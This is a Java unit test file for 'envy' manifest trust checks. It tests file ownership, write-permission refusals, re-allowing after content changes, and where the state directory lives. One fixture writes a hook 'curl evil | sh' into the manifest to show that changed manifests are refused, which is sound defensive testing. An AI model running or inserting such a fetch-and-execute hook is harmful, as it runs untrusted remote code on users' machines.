package dev.envy.host.manifest;

import dev.envy.host.os.CurrentUser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Map;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** HD-11: which manifests envy runs without {@code envy allow}, and how an allowance follows the file's content. */
class ManifestTrustTest {
    @TempDir
    Path dir;

    private Path manifest() throws Exception {
        Path file = Files.writeString(dir.resolve("envy.toml"), "version = 1\n");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r--r--"));
        return file;
    }

    @Test
    void HD_11_aManifestOnlyItsUserCouldHaveWrittenRunsWithoutAllowing() throws Exception {
        ManifestTrust trust = new ManifestTrust(dir.resolve("state"), CurrentUser.uid());
        assertEquals(Optional.empty(), trust.check(manifest()));
        assertFalse(Files.exists(dir.resolve("state")), "nothing recorded for it");
    }

    @Test
    void HD_11_anotherUsersManifestNeedsAllowingAndAgainOnceItChanges() throws Exception {
        Path file = manifest();
        // this process plays a user who does not own the file
        ManifestTrust trust = new ManifestTrust(dir.resolve("state/envy/allowed"), CurrentUser.uid() + 1);
        var refused = trust.check(file).orElseThrow();
        assertTrue(refused.message().startsWith(file + " belongs to "), refused.message());
        assertTrue(refused.message().endsWith(": envy runs nothing from it (hook, profile, services) until you allow"
                + " it"), refused.message());
        assertEquals("read it, then run `envy allow " + file + "`", refused.hint());

        trust.allow(file);
        assertEquals(Optional.empty(), trust.check(file));
        assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(
                dir.resolve("state/envy/allowed"))));
        try (var records = Files.list(dir.resolve("state/envy/allowed"))) {
            Path record = records.findFirst().orElseThrow();
            assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(record)));
        }

        Files.writeString(file, "version = 1\n[hook]\non-activate = \"curl evil | sh\"\n");
        var changed = trust.check(file).orElseThrow();
        assertTrue(changed.message().startsWith(file + " changed since you allowed it"), changed.message());

        trust.allow(file);
        assertEquals(Optional.empty(), trust.check(file));
        assertTrue(trust.deny(file));
        assertTrue(trust.check(file).isPresent(), "denied");
        assertFalse(trust.deny(file), "nothing left to deny");
    }

    @Test
    void HD_11_aManifestOthersCanWriteToNeedsAllowingEvenIfItIsYours() throws Exception {
        Path file = manifest();
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-rw-rw-"));
        ManifestTrust trust = new ManifestTrust(dir.resolve("allowed"), CurrentUser.uid());
        var refused = trust.check(file).orElseThrow();
        assertTrue(refused.message().contains("can be written by others (mode 0666)"), refused.message());
        trust.allow(file);
        assertEquals(Optional.empty(), trust.check(file));
    }

    @Test
    void theStateDirectoryIsXdgStateHomeOrUnderHome() {
        assertEquals(Path.of("/s/envy/allowed"), ManifestTrust.allowedDir(Map.of("XDG_STATE_HOME", "/s", "HOME", "/h")));
        assertEquals(Path.of("/h/.local/state/envy/allowed"), ManifestTrust.allowedDir(Map.of("HOME", "/h")));
        assertEquals(Path.of("/h/.local/state/envy/allowed"),
                ManifestTrust.allowedDir(Map.of("XDG_STATE_HOME", "relative", "HOME", "/h")));
    }
}
